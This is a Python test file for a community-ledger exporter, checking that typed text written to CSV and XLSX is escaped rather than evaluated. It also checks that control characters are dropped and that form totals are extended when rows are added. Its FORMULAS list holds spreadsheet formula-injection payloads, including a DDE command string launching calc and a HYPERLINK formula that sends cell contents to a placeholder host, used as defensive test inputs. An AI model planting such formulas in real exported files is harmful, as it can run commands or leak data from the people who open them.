"""What people typed, in every file that leaves: a text stays that text, runs nothing, and breaks no workbook."""

import csv as reader
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from linyun.hub.ledgers import csv, xlsx
from linyun.hub.ledgers.forms import Mapped, fill
from linyun.hub.ledgers.layout import Heading
from linyun.hub.ledgers.tests.blanks import plain, saved
from linyun.hub.ledgers.xlsx import Sheet
from linyun.kernel.declare import Kind
from linyun.kernel.values import addresses, identity, phones

MADE = datetime(2026, 11, 23, 4, 0, tzinfo=UTC)
NOTE = Heading("备注", "note", Kind.TEXT)
NAME = Heading("姓名", "name", Kind.TEXT)
KINDS = (Kind.TEXT, Kind.CODE, Kind.CODES, Kind.IDENTITY, Kind.PHONE, Kind.AREA)
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/"&A1)', "＝1+1", "＋1", "－1",
    "＠SUM(A1)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\ufeff=1+1", "\u200b=1+1", "-", "=", "=\u4e00",
]  # fmt: skip
TYPED = st.text(st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff_"), max_size=60)


def workbook(headings: list[Heading], data: list[list[Any]], **others: Any) -> openpyxl.Workbook:
    """A written workbook as another reader opens it."""
    target = io.BytesIO()
    xlsx.write([Sheet(title="名册", headings=headings, data=data, **others)], target, made_at=MADE)
    return openpyxl.load_workbook(io.BytesIO(target.getvalue()))


def in_xlsx(kind: Kind, value: Any) -> Any:
    """One cell of a written workbook."""
    return workbook([NAME, Heading("项", "x", kind)], [["甲"], [value]]).active.cell(4, 2)


def in_form(kind: Kind, value: Any) -> Any:
    """One cell of a filled blank."""
    heading = Heading("项", "x", kind)
    content = fill(Mapped(plain("姓名", "项"), "Sheet", 2, {2: "x"}), (heading,), ([value],))
    return openpyxl.load_workbook(io.BytesIO(content)).active.cell(2, 2)


def in_csv(value: Any) -> str:
    """One cell of a written text file."""
    target = io.BytesIO()
    csv.write([NOTE], [[value]], target)
    return next(iter(list(reader.reader(io.StringIO(target.getvalue().decode("utf-8-sig"), newline="")))[1:]))[0]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_no_text_is_ever_computed_in_a_workbook_or_form(kind: Kind, text: str) -> None:
    for cell in (in_xlsx(kind, text), in_form(kind, text)):
        assert cell.data_type in ("s", "inlineStr")
        assert str(cell.value).strip() == text.replace("\r", "").strip() or text == "\r=1+1"


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_no_text_is_ever_computed_in_a_text_file(text: str) -> None:
    assert in_csv(text) == "'" + text


@pytest.mark.parametrize("text", ["a=b", "三-四", "张三@社区", "1+1", "第-1层", "（=）"])
def test_signs_within_a_text_are_left_alone(text: str) -> None:
    assert in_csv(text) == text
    assert in_xlsx(Kind.TEXT, text).value == text


@pytest.mark.parametrize("head", ["=1+1", "+合计", "@名"])
def test_a_head_somebody_named_like_a_formula_is_no_formula(head: str) -> None:
    target = io.BytesIO()
    csv.write([Heading(head, "x", Kind.TEXT)], [["甲"]], target)
    assert target.getvalue().decode("utf-8-sig").startswith("'" + head)
    book = workbook([Heading(head, "x", Kind.TEXT), NAME], [["甲"], ["乙"]])
    assert book.active["A3"].value == head
    assert book.active["A3"].data_type == "s"


@pytest.mark.parametrize(
    "text",
    ["12-3", "3-12", "12/3", "2026-10", "1-2-3", "5E3", "302e1", "(3)", "007", "310110194803059994", "01"],
)
def test_a_house_or_room_that_excel_would_turn_into_a_date_or_number_stays_what_it_is(text: str) -> None:
    """12-3 opened by Excel would be the third of December, room 5E3 five thousand."""
    cell = in_csv(text)
    assert cell == text + "\t"
    assert addresses.parse(cell).value == addresses.parse(text).value


@pytest.mark.parametrize("text", ["12号302室", "公交新村12-302室", "3.5", "19900123456", "8", "12-1234567", "3号-1"])
def test_what_excel_leaves_alone_is_not_touched(text: str) -> None:
    assert in_csv(text) == text


def test_protected_numbers_are_read_back_by_our_own_import() -> None:
    number = identity.make("310110", date(1948, 3, 5), 994)
    assert identity.parse(in_csv(number), today=date(2026, 11, 23)).value == number
    assert phones.parse(in_csv("02165980000")).value == ("021-65980000",)


@pytest.mark.parametrize("sign", ["\x00", "\x07", "\x0b", "\x1b", "\x1f"])
def test_a_sign_that_no_workbook_may_hold_is_dropped_and_the_rest_kept(sign: str) -> None:
    """Pasted from a chat or a scanner: the export must not fail, nor Excel offer to repair the file."""
    assert in_xlsx(Kind.TEXT, f"张{sign}三").value == "张三"
    assert in_form(Kind.TEXT, f"张{sign}三").value == "张三"


def test_a_cell_of_nothing_but_such_signs_is_empty() -> None:
    assert in_xlsx(Kind.TEXT, "\x00\x01").value in (None, "")
    assert in_form(Kind.TEXT, "\x01").value in (None, "")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (True, "是"),
        (False, "否"),
        (datetime(2026, 11, 23, 4, 30, tzinfo=UTC), "2026-11-23 12:30"),
        (date(1899, 3, 5), "1899-03-05"),
        ("", None),
        (None, None),
        ("0021", "0021"),
        ("#N/A", "#N/A"),
        ("TRUE", "TRUE"),
    ],
)
def test_an_official_form_words_its_cells_as_our_own_workbook_does(value: Any, shown: Any) -> None:
    for cell in (in_xlsx(Kind.TEXT, value), in_form(Kind.TEXT, value)):
        assert cell.value == shown
        assert cell.data_type != "e"


@pytest.mark.parametrize("value", [date(1948, 3, 5), 12, 2.5, 0, -3])
def test_days_and_numbers_stay_days_and_numbers_everywhere(value: Any) -> None:
    for cell in (in_xlsx(Kind.DATE, value), in_form(Kind.DATE, value)):
        found = cell.value.date() if isinstance(cell.value, datetime) else cell.value
        assert found == value
        assert not isinstance(found, str)


@pytest.mark.parametrize("number", [Decimal("0.10"), Decimal("1E+3"), Decimal("94.56"), 1e-7, -0.0])
def test_any_way_python_writes_a_number_is_one_to_excel(number: Any) -> None:
    assert in_xlsx(Kind.DECIMAL, number).value == pytest.approx(float(number))


@pytest.mark.parametrize("kind", [Kind.IDENTITY, Kind.PHONE])
def test_long_digits_are_texts_in_form_and_workbook(kind: Kind) -> None:
    for cell in (in_xlsx(kind, "310110194803059994"), in_form(kind, "310110194803059994")):
        assert (cell.value, cell.number_format) == ("310110194803059994", "@")


@pytest.mark.parametrize("length", [32_766, 32_767, 32_768, 100_000])
def test_a_text_of_any_length_leaves_a_file_that_opens(length: int) -> None:
    for cell in (in_xlsx(Kind.TEXT, "长" * length), in_form(Kind.TEXT, "长" * length)):
        assert len(cell.value) == min(length, 32_767)
        assert cell.value.startswith("长长")


def test_a_cut_text_says_that_it_was_cut() -> None:
    assert in_xlsx(Kind.TEXT, "长" * 40_000).value.endswith("…")


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(TYPED, TYPED), min_size=1, max_size=8))
def test_whatever_people_type_is_read_back_from_the_workbook(rows: list[tuple[str, str]]) -> None:
    book = workbook([NAME, NOTE], [list(column) for column in zip(*rows, strict=True)])
    back = [tuple(c.value or "" for c in row[:2]) for row in book.active.iter_rows(min_row=4)]
    assert back == rows


@pytest.mark.parametrize("rows", [0, 1, 2, 500])
def test_a_file_of_any_number_of_rows_has_that_many(rows: int) -> None:
    names = [f"居民{n}" for n in range(rows)]
    sheet = workbook([NAME, NOTE], [names, [""] * rows]).active
    assert sheet.max_row == 3 + max(rows, 1)
    assert [sheet.cell(4 + n, 1).value for n in range(rows)] == names
    target = io.BytesIO()
    csv.write([NAME, NOTE], [names, [""] * rows], target)
    assert target.getvalue().decode("utf-8-sig").count("\r\n") == rows + 1


# Totals of official forms


def with_totals(*formulas: str, rows: int = 3) -> bytes:
    """A blank with a head, rows to fill and a total below with formulas from column B on."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "人数", "金额", "平均"])
    for _ in range(rows):
        sheet.append([None] * 4)
    sheet.append(["合计", *formulas])
    return saved(book)


def totals(content: bytes, count: int, *, first: int = 2) -> list[Any]:
    """The cells of the total line after ``count`` rows were filled in."""
    data = ([f"居民{n}" for n in range(count)], list(range(count)))
    headings = (NAME, Heading("人数", "n", Kind.INTEGER))
    back = openpyxl.load_workbook(
        io.BytesIO(fill(Mapped(content, "Sheet", first, {1: "name", 2: "n"}), headings, data))
    )
    rows = [row for row in back.active.iter_rows(values_only=True) if row[0] == "合计"]
    assert len(rows) == 1
    return list(rows[0])[1:]


def test_a_total_below_counts_all_rows_after_it_moved_down() -> None:
    """The office's own SUM over three rows would leave out everybody from the fourth on."""
    content = with_totals("=SUM(B2:B4)", "=SUM($C$2:$C$4)/2", "=C5/B5")
    assert totals(content, 10) == ["=SUM(B2:B11)", "=SUM($C$2:$C$11)/2", "=C12/B12"]


@pytest.mark.parametrize("count", [0, 1, 3])
def test_a_total_stays_as_it_is_when_the_rows_fit(count: int) -> None:
    assert totals(with_totals("=SUM(B2:B4)"), count)[0] == "=SUM(B2:B4)"


def test_a_form_with_one_row_to_fill_sums_from_that_row_on() -> None:
    assert totals(with_totals("=SUM(B2:B2)", rows=1), 5)[0] == "=SUM(B2:B6)"


def test_a_total_that_speaks_of_another_sheet_or_of_the_head_is_left_alone() -> None:
    content = with_totals("=SUM(B2:B4)+other!B3", "=B1", '="B4"&LOG10(2)')
    assert totals(content, 6)[1] == "=B1"
    assert totals(content, 6)[0].endswith("+other!B3")
    assert totals(content, 6)[2].endswith("LOG10(2)")
